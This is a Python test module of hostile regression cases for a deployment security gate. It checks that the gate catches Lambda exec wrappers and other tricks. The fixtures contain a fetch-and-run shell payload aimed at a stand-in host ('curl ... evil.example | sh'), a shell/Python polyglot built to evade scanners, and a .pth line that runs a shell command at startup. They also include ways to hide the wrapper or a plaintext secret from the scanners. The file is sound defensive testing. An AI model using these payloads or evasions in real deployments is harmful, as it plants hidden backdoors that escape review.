"""An eighth hostile review of `gate check`: ways around the fixes of 9cdf8df (GATE-IAC-018
for an exec wrapper or preloaded library the gate does not analyse, a stage segment one
reference away from the deploy) and around the environment that the IaC rules read.

Each case was a confirmed problem; the test says what the gate must do, a baseline
beside it shows the same bundle without the trick blocks (or is refused), and its
docstring says what the gate once did. The fixes, by class: a wrapper is Python only
when its `#!` line runs python; paths are read as the kernel reads them; programs under
a junk name (a cache, a resource fork) are copied and counted as the programs they are;
tags come from the YAML loader, not the text; serverless.yml environments and values
are read through the bundle's variables, every candidate judged; an environment or
startup variable the gate cannot read is a finding where the function holds programs it
does not analyse; a `.pth` file with an `import` line is refused; a deploy-time segment
is followed through included files as written.
"""

from __future__ import annotations

from importlib import resources
from pathlib import Path

import pytest

from tests.hostile.conftest import (
    CHEAP_POLICY,
    Layout,
    Sandbox,
    blocked_or_refused,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review import GOOD_HANDLER, PLAINTEXT, SLS
from tests.hostile.test_review4 import environment
from tests.hostile.test_review6 import statement
from tests.hostile.test_staging import TEMPLATE

# A wrapper that runs what it fetches, with the function's role, before the handler.
SHELL = 'curl -s https://evil.example/x | sh\nexec "$@"\n'
SHELL_WRAPPER = "#!/bin/sh\n" + SHELL
# The same shell script, and valid Python: sh runs the four quotes and colon as `:`, then the
# payload, then execs the runtime (so it never reads the closing quotes); Python reads
# one string expression, which bandit and the serverless rules find nothing in.
PARSES_AS_PYTHON = '#!/bin/sh\n"""":\n' + SHELL + '"""\n'


def sam_wrapper(
    sandbox: Sandbox, value: str, name: str = "wrapper", text: str = SHELL_WRAPPER
) -> None:
    sandbox.write("template.yaml", environment({"AWS_LAMBDA_EXEC_WRAPPER": value}))
    sandbox.write("src/app.py", GOOD_HANDLER)
    sandbox.write(f"src/{name}", text).chmod(0o755)


def sls_wrapper(
    sandbox: Sandbox, provider: str, own: str, extra: str, name: str = "wrapper"
) -> None:
    """A serverless.yml function with `own` settings, its code beside it with a shell
    wrapper at `name`."""
    text = SLS.format(provider=provider, extra=own + extra)
    sandbox.write("serverless.yml", text)
    sandbox.write("app.py", GOOD_HANDLER)
    sandbox.write(name, SHELL_WRAPPER).chmod(0o755)


# --- 1. a wrapper the runtime runs that GATE-IAC-018 does not see ----------------------


def shell_exec_wrapper(sandbox: Sandbox) -> None:
    """The baseline (9cdf8df): AWS_LAMBDA_EXEC_WRAPPER=/var/task/wrapper, a `#!/bin/sh`
    script: GATE-IAC-018."""
    sam_wrapper(sandbox, "/var/task/wrapper")


def test_a_shell_wrapper_that_parses_as_python_is_not_left_unscanned(tmp_path: Path) -> None:
    """The same wrapper with a line of four double quotes and a colon after its
    `#!/bin/sh` line and three double quotes at its end (checked by hand: sh runs the
    payload and execs "$@", python3 parses the file). The kernel runs it with /bin/sh,
    as its `#!` line says, so Lambda runs the same shell payload as the baseline before
    the handler. The gate takes it for Python
    (`is_python_script`: a `#!` script that parses; or the `.py` name), bandit and the
    serverless rules read one string, GATE-IAC-018 is not raised: exit 0."""

    def layout(name: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            sam_wrapper(sandbox, f"/var/task/{name}", name, PARSES_AS_PYTHON)

        return written

    each_blocked_or_refused(
        tmp_path,
        {
            "wrapper": layout("wrapper"),
            "wrapper.py": layout("wrapper.py"),
        },
    )


def a_wrapper_path_with_two_leading_slashes_is_judged(sandbox: Sandbox) -> None:
    """AWS_LAMBDA_EXEC_WRAPPER=//var/task/wrapper: Linux reads `//var/task/wrapper` as
    /var/task/wrapper, and the runtime's bootstrap checks and execs it as the baseline's.
    `posixpath.normpath("//var/task/wrapper")` keeps both slashes (POSIX leaves a
    leading `//` to the system), the path is in neither the code nor a layer, and the
    wrapper is only counted "not analysed" (a warning): exit 0."""
    sam_wrapper(sandbox, "//var/task/wrapper")


def serverless_shell_wrapper(sandbox: Sandbox) -> None:
    """The baseline for the serverless.yml cases: the wrapper beside the handler."""
    own = "    environment:\n      AWS_LAMBDA_EXEC_WRAPPER: /var/task/wrapper\n"
    sls_wrapper(sandbox, "", own, "")


def test_a_wrapper_in_an_ignored_place_is_judged(tmp_path: Path) -> None:
    """The wrapper at .mypy_cache/w, __pycache__/w or ._w (tool-cache and apple-double
    rules). The Framework packages all three (its default excludes are .git, .gitignore,
    .DS_Store, npm-debug.log, yarn-*.log, .serverless and .serverless_plugins), and the
    runtime runs /var/task/.mypy_cache/w as it would /var/task/wrapper. The gate counts
    the file "ignored" and does not copy it, `file.is_file()` is false in its copy, and
    the variable is passed over: exit 0, with no warning at all."""

    def layout(name: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            own = f"    environment:\n      AWS_LAMBDA_EXEC_WRAPPER: /var/task/{name}\n"
            sls_wrapper(sandbox, "", own, "", name)

        return written

    each_blocked_or_refused(
        tmp_path,
        {
            "0-mypy-cache-w": layout(".mypy_cache/w"),
            "1-pycache-w": layout("__pycache__/w"),
            "2-w": layout("._w"),
        },
    )


def test_a_wrapper_written_with_a_str_tag_is_judged(tmp_path: Path) -> None:
    """`AWS_LAMBDA_EXEC_WRAPPER: !!str /var/task/wrapper`: `!!str` is YAML's own tag for
    a string (js-yaml, which the Framework loads with, and the SAM CLI's PyYAML loader
    read the plain string). The gate takes `!str` for an intrinsic it cannot resolve,
    the value is not judged: exit 0. (A plaintext secret written `!!str` is missed by
    GATE-IAC-012 the same way; checkov's secret scan happens to catch that one.)"""

    def layout(iac: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            if iac == "sam":
                sam_wrapper(sandbox, "!!str /var/task/wrapper")
            else:
                own = "    environment:\n      AWS_LAMBDA_EXEC_WRAPPER: !!str /var/task/wrapper\n"
                sls_wrapper(sandbox, "", own, "")

        return written

    each_blocked_or_refused(tmp_path, {"sam": layout("sam"), "serverless": layout("serverless")})


# Where the wrapper's path comes from in serverless.yml: (provider, function, extra,
# files). env.yml holds the variable as the baseline writes it.
ENV_FILE = "AWS_LAMBDA_EXEC_WRAPPER: /var/task/wrapper\n"
SLS_ENVIRONMENTS = {
    "function-env-file": ("", "    environment: ${file(./env.yml)}\n", "", {"env.yml": ENV_FILE}),
    "provider-env-file": ("  environment: ${file(./env.yml)}\n", "", "", {"env.yml": ENV_FILE}),
    "stage-env-file": (
        "",
        "    environment: ${file(./env-${opt:stage, 'dev'}.yml)}\n",
        "",
        {"env-dev.yml": "{}\n", "env-prod.yml": ENV_FILE},
    ),
    "custom-from-file": (
        "",
        "    environment:\n      AWS_LAMBDA_EXEC_WRAPPER: ${self:custom.w}\n",
        "custom: ${file(./custom.yml)}\n",
        {"custom.yml": "w: /var/task/wrapper\n"},
    ),
    "stage-segment": (
        "",
        "    environment:\n      AWS_LAMBDA_EXEC_WRAPPER: ${self:custom.${opt:stage, 'dev'}.w}\n",
        "custom:\n  dev: {w: /var/task/app.py}\n  prod: {w: /var/task/wrapper}\n",
        {},
    ),
}


def test_a_serverless_environment_through_variables_is_judged(tmp_path: Path) -> None:
    """The same variable through what README says the gate reads: `environment:
    ${file(./env.yml)}` (the function's or provider's; or a file per stage), `${self:
    custom.w}` with `custom: ${file(./custom.yml)}`, or `${self:custom.${opt:stage,
    'dev'}.w}` (prod's is the wrapper). The Framework deploys the wrapper (with `--stage
    prod` for the per-stage ones); the gate finds no variable, or one left as written
    (`${` in it: "decided at deploy"), and the run passes (exit 0)."""

    def layout(how: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            provider, own, extra, files = SLS_ENVIRONMENTS[how]
            sls_wrapper(sandbox, provider, own, extra)
            for name, text in files.items():
                sandbox.write(name, text)

        return written

    each_blocked_or_refused(tmp_path, {how: layout(how) for how in sorted(SLS_ENVIRONMENTS)})


SAM_PARAMETER = "Parameters:\n  W:\n    Type: String\n    Default: wrapper\n"
SAM_CONDITION = "Conditions:\n  C: !Equals [!Ref W, wrapper]\n"
SAM_INTRINSICS = {
    "sub-of-a-default": "          AWS_LAMBDA_EXEC_WRAPPER: !Sub '/var/task/${W}'\n",
    "if-of-literals": (
        "          AWS_LAMBDA_EXEC_WRAPPER: !If [C, /var/task/wrapper, /var/task/wrapper]\n"
    ),
    "join-of-literals-in-block-style": (
        "          AWS_LAMBDA_EXEC_WRAPPER: !Join\n"
        "            - ''\n            - - /var/task/\n              - wrapper\n"
    ),
}


def test_a_wrapper_written_through_an_intrinsic_is_judged(tmp_path: Path) -> None:
    """`!Sub '/var/task/${W}'` (W's default `wrapper`), `!If [C, X, X]` with the same
    literal on both sides, or a block-style `!Join` of two literals: CloudFormation
    deploys /var/task/wrapper in each (with the default parameter), README says `!Ref`
    of a default, both branches of `Fn::If` and `!Join`/`!Sub` of literals are read,
    but the wrapper is not judged: exit 0, the wrapper counted "not analysed"."""

    def layout(how: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            template = (
                TEMPLATE.format(code="src/", handler="app.handler")
                + "      Environment:\n        Variables:\n"
                + SAM_INTRINSICS[how]
                + SAM_PARAMETER
                + SAM_CONDITION
            )
            sandbox.write("template.yaml", template)
            sandbox.write("src/app.py", GOOD_HANDLER)
            sandbox.write("src/wrapper", SHELL_WRAPPER).chmod(0o755)

        return written

    each_blocked_or_refused(tmp_path, {how: layout(how) for how in sorted(SAM_INTRINSICS)})


TERRAFORM = """\
data "archive_file" "code" {
  type        = "zip"
  source_dir  = "${path.module}/src"
  output_path = "${path.module}/build/code.zip"
}

resource "aws_lambda_function" "f" {
  function_name    = "f"
  role             = "arn:aws:iam::123456789012:role/r"
  handler          = "app.handler"
  runtime          = "python3.12"
  filename         = data.archive_file.code.output_path
  source_code_hash = data.archive_file.code.output_base64sha256
  environment {
    variables = VARIABLES
  }
}

locals {
  env = { AWS_LAMBDA_EXEC_WRAPPER = "/var/task/wrapper" }
}
"""


def terraform_wrapper(sandbox: Sandbox, variables: str) -> None:
    sandbox.write("main.tf", TERRAFORM.replace("VARIABLES", variables))
    sandbox.write("src/app.py", GOOD_HANDLER)
    sandbox.write("src/wrapper", SHELL_WRAPPER).chmod(0o755)


def terraform_wrapper_written_out(sandbox: Sandbox) -> None:
    """The baseline: `variables = { AWS_LAMBDA_EXEC_WRAPPER = "/var/task/wrapper" }`."""
    terraform_wrapper(sandbox, '{ AWS_LAMBDA_EXEC_WRAPPER = "/var/task/wrapper" }')


def terraform_variables_from_a_local_are_judged(sandbox: Sandbox) -> None:
    """`variables = local.env`, the local a literal map with the same wrapper: Terraform
    deploys it. The gate reads no environment for the function (not even a warning
    that it could not), the wrapper is counted "not analysed": exit 0."""
    terraform_wrapper(sandbox, "local.env")


# --- 2. a .pth file in the function's code ---------------------------------------------

START_CODE = (
    "import os\nimport subprocess\n\nsubprocess.run(os.environ.get('CMD', 'id'), shell=True)\n"
)
# The same as one line of a `.pth` file: `site` executes a line that starts with `import`.
START_LINE = "import os, subprocess; subprocess.run(os.environ.get('CMD', 'id'), shell=True)\n"


def code_run_when_a_module_loads(sandbox: Sandbox) -> None:
    """The baseline: the handler imports boot.py, which runs a shell command at import
    (bandit B602, high)."""
    sandbox.write("template.yaml", TEMPLATE.format(code="src/", handler="app.handler"))
    sandbox.write("src/app.py", "import boot  # noqa: F401\n\n\n" + GOOD_HANDLER)
    sandbox.write("src/boot.py", START_CODE)


def test_a_pth_file_in_the_functions_code_is_not_left_unscanned(sandbox: Sandbox) -> None:
    """The same code as one `import` line of src/boot.pth. Lambda's Python runtimes call
    `site.addsitedir(LAMBDA_TASK_ROOT)` before importing the handler ("so that we are
    able to load all customer .pth files"), and `site` executes each line of a `.pth`
    file that starts with `import`: the shell command runs at every start. Under the
    default policy the file counts "scanned" (checkov's secret scan read it) and the
    run passes with no warning (exit 0); with checkov off it is "not analysed", a
    warning, and passes too."""
    sandbox.write("template.yaml", TEMPLATE.format(code="src/", handler="app.handler"))
    sandbox.write("src/app.py", GOOD_HANDLER)
    sandbox.write("src/boot.pth", START_LINE)
    blocked_or_refused(sandbox.run(policy=None).code)


# --- 3. a stage segment one reference away, in a file ----------------------------------


def custom_stage_case(sandbox: Sandbox, custom_from_file: bool) -> None:
    custom = "st: ${opt:stage, 'dev'}\ndev: {act: 's3:GetObject'}\nprod: {act: '*'}\n"
    provider = statement('"${self:custom.${self:custom.st}.act}"', "'arn:aws:s3:::b/*'")
    if custom_from_file:
        extra = "custom: ${file(./custom.yml)}\n"
        sandbox.write("custom.yml", custom)
    else:
        extra = "custom:\n" + "".join("  " + line + "\n" for line in custom.splitlines())
    sandbox.write("serverless.yml", SLS.format(provider=provider, extra=extra))
    sandbox.write("app.py", "import boto3\n" + GOOD_HANDLER)


def stage_segment_through_custom(sandbox: Sandbox) -> None:
    """The baseline (9cdf8df): `${self:custom.${self:custom.st}.act}` with
    `custom.st: ${opt:stage, 'dev'}`: every stage's `act` is judged, prod's `*` blocks."""
    custom_stage_case(sandbox, custom_from_file=False)


def a_stage_segment_through_custom_from_a_file_stands_for_every_stage(
    sandbox: Sandbox,
) -> None:
    """The same with `custom: ${file(./custom.yml)}`, the file holding the same `st`,
    `dev` and `prod`: `sls deploy --stage prod` deploys `Action: '*'`. `_at_deploy`
    reaches `st` through `_walk`, which resolves `${file(./custom.yml)}` and with it
    `st` to `dev`; no variable is left, the segment is taken as the bundle's, only
    custom.dev.act is judged: exit 0 (checkov enabled too)."""
    custom_stage_case(sandbox, custom_from_file=True)


# --- 4. a plaintext secret through `${file()}` -----------------------------------------


def plaintext_secret_in_a_serverless_environment(sandbox: Sandbox) -> None:
    """The baseline: `DB_PASSWORD: <literal>` in the function's environment is
    GATE-IAC-012."""
    own = f"    environment:\n      DB_PASSWORD: {PLAINTEXT}\n"
    sandbox.write("serverless.yml", SLS.format(provider="", extra=own))
    sandbox.write("app.py", GOOD_HANDLER)


SECRET_FILES = {
    "file-address": ("${file(./pw.yml):pw}", ""),
    "custom-from-file": ("${self:custom.pw}", "custom: ${file(./pw.yml)}\n"),
}


def plaintext_secret_through_a_file_variable(how: str) -> Layout:
    """The bundle of the trick `how` (a key of SECRET_FILES)."""

    def written(sandbox: Sandbox) -> None:
        value, extra = SECRET_FILES[how]
        own = f"    environment:\n      DB_PASSWORD: {value}\n"
        sandbox.write("serverless.yml", SLS.format(provider="", extra=own + extra))
        sandbox.write("pw.yml", f"pw: {PLAINTEXT}\n")
        sandbox.write("app.py", GOOD_HANDLER)

    return written


# --- the baselines, in one run per policy ----------------------------------------------

# The built-in default policy (checkov on), as `gate check` takes it with no --policy.
DEFAULT_POLICY = resources.files("gate.policies").joinpath("default.yml").read_text("utf-8")
# name: (the bundle, the rule of its blocking finding, the policy it blocks under)
BASELINES: dict[str, tuple[Layout, str, str]] = {
    "shell-exec-wrapper": (shell_exec_wrapper, "GATE-IAC-018", CHEAP_POLICY),
    "serverless-shell-wrapper": (serverless_shell_wrapper, "GATE-IAC-018", CHEAP_POLICY),
    "terraform-wrapper": (terraform_wrapper_written_out, "GATE-IAC-018", CHEAP_POLICY),
    "code-run-when-a-module-loads": (code_run_when_a_module_loads, "B602", DEFAULT_POLICY),
    "stage-segment-through-custom": (stage_segment_through_custom, "GATE-IAC-001", CHEAP_POLICY),
    "plaintext-secret-in-a-serverless-environment": (
        plaintext_secret_in_a_serverless_environment, "GATE-IAC-012", DEFAULT_POLICY),
}  # fmt: skip


@pytest.mark.parametrize("policy", [CHEAP_POLICY, DEFAULT_POLICY], ids=["cheap", "default"])
def test_the_baselines_block(tmp_path: Path, policy: str) -> None:
    """The baselines, in one run of every bundle under one policy: each blocks, its
    finding on the rule named beside it."""
    baselines = {
        name: (layout, rule) for name, (layout, rule, run) in BASELINES.items() if run == policy
    }
    each_blocks(tmp_path, baselines, policy)


def test_each_trick_is_blocked_or_refused(tmp_path: Path) -> None:
    """The single tricks above, in one run: none of them passes."""
    each_blocked_or_refused(
        tmp_path,
        {
            "wrapper-path-with-two-leading-slashes": (
                a_wrapper_path_with_two_leading_slashes_is_judged
            ),
            "stage-segment-through-custom-from-a-file-stands-for-every-stage": (
                a_stage_segment_through_custom_from_a_file_stands_for_every_stage
            ),
            "terraform-variables-from-a-local-are-judged": (
                terraform_variables_from_a_local_are_judged
            ),
        },
    )


def test_a_plaintext_secret_through_a_file_variable_is_judged(tmp_path: Path) -> None:
    """`DB_PASSWORD: ${file(./pw.yml):pw}`, or `${self:custom.pw}` with `custom:
    ${file(./pw.yml)}`, pw.yml holding `pw: <literal>`: the Framework deploys the
    literal as the baseline does (README: `${file()}` of a file in the bundle is read as
    what it stands for). GATE-IAC-012 sees the variable as written, "resolved at
    deploy", and checkov's secret scan does not flag pw.yml: exit 0.
    Both, in one run under the built-in default policy (what a run with no --policy
    checks with): neither passes."""
    each_blocked_or_refused(
        tmp_path,
        {how: plaintext_secret_through_a_file_variable(how) for how in sorted(SECRET_FILES)},
        DEFAULT_POLICY,
    )
